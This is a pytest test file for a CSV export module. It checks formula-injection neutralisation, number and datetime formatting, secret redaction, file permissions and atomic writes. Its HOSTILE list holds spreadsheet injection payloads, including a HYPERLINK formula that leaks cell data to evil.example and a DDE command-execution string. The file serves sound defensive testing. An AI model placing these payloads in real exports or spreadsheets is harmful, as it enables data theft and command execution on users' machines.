"""CSV exports: hostile cells are neutralised, numbers stay numbers, secrets never leave."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from core.exports import CsvCell, cell_text, neutralise, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
    "＝1+1",
    "-",
]
HARMLESS = ["#1001", "Müller", "a=b", "1+1", "email@example.com", "", "Ø 22mm", "'quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_get_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_kept(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_and_instants_are_not_text() -> None:
    assert cell_text(Decimal("-12.50")) == "-12.50"
    assert cell_text(Decimal(100).scaleb(2)) == "10000"
    assert cell_text(-3) == "-3"
    berlin = timezone(timedelta(hours=2))
    assert cell_text(datetime(2026, 5, 1, 12, 30, tzinfo=berlin)) == "2026-05-01 10:30:00"
    assert cell_text(None) == ""
    with pytest.raises(ValueError, match="naive"):
        cell_text(datetime(2026, 5, 1))


def test_written_file_reads_back_neutralised(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    rows: list[list[CsvCell]] = [
        [text, Decimal("-1.00"), datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)] for text in HOSTILE
    ]
    rows.append(["token shpat_0123456789abcdef0123456789abcdef here", 5, None])
    assert write_csv(target, ["=Title", "Amount", "When (UTC)"], iter(rows)) == len(rows)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    with target.open(encoding="utf-8-sig", newline="") as stream:
        read = list(csv.reader(stream))
    assert read[0] == ["'=Title", "Amount", "When (UTC)"]
    for line, text in zip(read[1:], HOSTILE, strict=False):
        assert line == ["'" + text, "-1.00", "2026-01-02 03:04:05"]
    assert "shpat_0123456789abcdef" not in target.read_text(encoding="utf-8-sig")
    assert read[-1][0] == "token shpat_[REDACTED] here"
    assert target.stat().st_mode & 0o077 == 0  # private: it names customers


def test_a_failed_export_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("previous\n")

    def rows() -> Iterator[list[CsvCell]]:
        yield ["fine"]
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(target, ["A"], rows())
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]
